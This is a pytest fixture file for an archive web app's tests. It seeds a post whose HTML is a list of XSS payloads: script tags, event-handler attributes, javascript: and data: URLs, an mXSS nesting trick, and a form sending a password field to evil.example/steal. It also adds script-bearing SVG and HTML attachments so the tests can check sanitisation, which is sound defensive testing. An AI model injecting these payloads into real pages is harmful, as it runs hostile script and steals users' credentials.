"""Short names for the web kit's fixtures (``alejandria_web.testing``)."""

from __future__ import annotations

import io
from collections.abc import Callable
from dataclasses import dataclass
from typing import Any

import pytest

from alejandria.models import CreatorIn, MediaIn, MediaKind, PostIn
from alejandria.testing.memory import memory_plugin


@pytest.fixture
def app(web_app: Any) -> Any:
    return web_app


@pytest.fixture
def client(web_client: Any) -> Any:
    return web_client


@pytest.fixture
def new_client(web_new_client: Any) -> Callable[[], Any]:
    return web_new_client  # type: ignore[no-any-return]


@pytest.fixture
def people(web_people: Any) -> Any:
    return web_people


@pytest.fixture
def signed_in(web_signed_in: Any) -> Any:
    return web_signed_in


# -- a small catalogue, synced through the real pipeline ---------------------------------------


#: XSS payloads a hostile creator page could carry (issue #18's list).
HOSTILE_HTML = """
<p>Hello <b>reader</b> <a href="https://example.com/ok">a fine link</a></p>
<script>alert('script')</script>
<img src="x" onerror="alert('onerror')">
<a href="javascript:alert('js-url')">click</a>
<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">data</a>
<svg onload="alert('svg')"><circle r="4"/></svg>
<style>body { background: url('javascript:alert(1)') }</style>
<iframe src="https://evil.example/"></iframe>
<form action="https://evil.example/steal"><input name="password"></form>
<div onclick="alert('onclick')" style="position:fixed">styled</div>
<math><mtext><table><mglyph><style><img src=x onerror=alert('mxss')></style>
</mglyph></table></mtext></math>
"""

SVG = (b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)">'
       b'<script>alert(2)</script></svg>')
HTML_FILE = b"<html><body><script>alert('attached')</script></body></html>"


def run_async(function: Any, *args: Any) -> Any:
    """``anyio.run(function, *args)`` in a thread of its own: Playwright's sync API (the
    browser tests) leaves the thread it ran in marked as running an event loop, and with
    ``-n`` (pytest-xdist) a browser test may come before this one in the same worker."""
    from concurrent.futures import ThreadPoolExecutor

    import anyio

    with ThreadPoolExecutor(1) as pool:
        return pool.submit(anyio.run, function, *args).result()


def png_bytes(width: int = 64, height: int = 48) -> bytes:
    from PIL import Image

    out = io.BytesIO()
    Image.new("RGB", (width, height), "teal").save(out, format="PNG")
    return out.getvalue()


@dataclass
class Catalogue:
    post_id: int
    other_post_id: int
    image_id: int
    svg_id: int
    html_id: int
    audio_id: int
    audio_bytes: bytes


@pytest.fixture
def catalogue(archive: Any, register_plugin: Callable[..., None]) -> Catalogue:
    """Two posts of one creator: the first with hostile HTML, an image, an SVG, an HTML file
    and an audio file whose transcript is stored."""
    from sqlalchemy import text

    audio = b"ID3" + bytes(range(256)) * 4096  # 1 MiB and a bit: Range reads have room
    blobs = {"img": png_bytes(), "svg": SVG, "html": HTML_FILE, "aud": audio}
    items = [
        CreatorIn(external_id="ana", name="Ana Astróloga"),
        PostIn(external_id="p1", creator_external_id="ana", title="Carta natal",
               text="La carta natal explica los planetas.", html=HOSTILE_HTML,
               media=(MediaIn(key="img", filename="portada.png", mime_type="image/png",
                              kind=MediaKind.IMAGE),
                      MediaIn(key="svg", filename="dibujo.svg", mime_type="image/svg+xml",
                              kind=MediaKind.IMAGE),
                      MediaIn(key="html", filename="pagina.html", mime_type="text/html",
                              kind=MediaKind.OTHER),
                      MediaIn(key="aud", filename="charla.mp3", mime_type="audio/mpeg",
                              kind=MediaKind.AUDIO))),
        PostIn(external_id="p2", creator_external_id="ana", title="Tránsitos",
               text="Los tránsitos de Saturno.", html="<p>Los tránsitos de Saturno.</p>"),
    ]
    register_plugin(memory_plugin("webtest", items, blobs), name="webtest-source")
    archive.sync("webtest", "all", remember=False)
    with archive.engine.begin() as conn:
        ids = dict(conn.execute(text("SELECT external_id, id FROM posts")).all())
        media = dict(conn.execute(text(
            "SELECT pm.key, pm.media_id FROM post_media pm")).all())
        transcription = conn.execute(text(
            "INSERT INTO transcriptions (media_id, engine, model, language, text) "
            "VALUES (:m, 'test', 'test', 'es', 'hola mundo') RETURNING id"),
            {"m": media["aud"]}).scalar_one()
        conn.execute(text(
            "INSERT INTO transcript_segments (transcription_id, ordinal, start_s, end_s, text,"
            " ts_config) VALUES (:t, 0, 0.0, 1.5, 'hola', 'simple'),"
            " (:t, 1, 1.5, 3.25, 'mundo --> <b>fin</b>', 'simple')"), {"t": transcription})
    return Catalogue(post_id=ids["p1"], other_post_id=ids["p2"], image_id=media["img"],
                     svg_id=media["svg"], html_id=media["html"], audio_id=media["aud"],
                     audio_bytes=audio)
